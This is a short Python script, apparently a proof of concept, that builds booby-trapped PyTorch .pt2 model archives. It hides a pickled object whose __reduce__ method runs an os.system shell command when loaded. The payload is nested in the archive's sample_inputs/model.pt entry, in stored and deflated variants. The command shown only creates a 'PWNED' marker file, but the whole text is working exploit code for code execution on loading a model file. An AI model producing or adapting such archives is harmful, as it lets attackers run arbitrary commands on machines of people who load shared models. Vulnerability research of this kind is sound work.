import torch, zipfile, io, os, sys
class P:
    def __reduce__(s): return (os.system, ('touch /tmp/r36d/PWNED_pt2_' + TAG,))
def nested(deflate):
    b = io.BytesIO(); torch.save({'x': P()}, b); raw = b.getvalue()
    if not deflate: return raw
    zin = zipfile.ZipFile(io.BytesIO(raw)); out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as zo:
        for i in zin.infolist():
            zo.writestr(i.filename, zin.read(i.filename), compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()
for TAG, defl in [('stored', False), ('deflated', True)]:
    zin = zipfile.ZipFile('base.pt2')
    with zipfile.ZipFile(f'{TAG}.pt2', 'w') as zo:
        for i in zin.infolist():
            d = zin.read(i.filename)
            if i.filename.endswith('sample_inputs/model.pt'): d = nested(defl)
            zo.writestr(i, d)
